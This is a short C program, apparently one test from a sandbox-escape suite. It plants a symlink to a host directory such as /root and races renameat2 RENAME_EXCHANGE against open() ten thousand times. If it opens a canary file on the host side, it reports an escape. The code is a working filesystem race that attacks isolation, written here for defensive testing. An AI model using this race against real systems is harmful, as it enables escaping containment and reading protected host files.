/* class: filesystem
 * what: exchanges a directory and a link to the host's directory ten thousand times while opening below it
 */
#include "attack.h"

int main(void)
{
    const char *dir = scratch_dir(), *host_dir = param("canary_dir", "/root");
    if (!dir)
        contained("no place to write");
    char a[300], b[300], file[400];
    snprintf(a, sizeof a, "%s", scratch_path(dir, "a"));
    snprintf(b, sizeof b, "%s", scratch_path(dir, "b"));
    snprintf(file, sizeof file, "%s/canary", a);
    if (mkdir(a, 0700) < 0 || symlink(host_dir, b) < 0)
        contained("cannot plant the race: %s", errname(errno));
    close(open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
    pid_t flipper = fork();
    if (flipper == 0) {
        alarm(3);
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
    }
    bool won = false;
    for (int i = 0; i < 10000 && !won; i++) {
        int fd = open(file, O_RDWR | O_CLOEXEC);
        won = fd >= 0 && is_canary(fd);
        if (fd >= 0)
            close(fd);
    }
    if (flipper > 0) {
        kill(flipper, SIGKILL);
        waitpid(flipper, NULL, 0);
    }
    for (int i = 0; i < 2; i++) { /* whichever is the directory now */
        char f[400];
        snprintf(f, sizeof f, "%s/canary", i ? b : a);
        struct stat st;
        if (lstat(i ? b : a, &st) == 0 && S_ISDIR(st.st_mode)) {
            unlink(f);
            rmdir(i ? b : a);
        } else
            unlink(i ? b : a);
    }
    if (won)
        escaped("opened the host's canary through the race");
    contained("10000 rounds never left the sandbox");
}
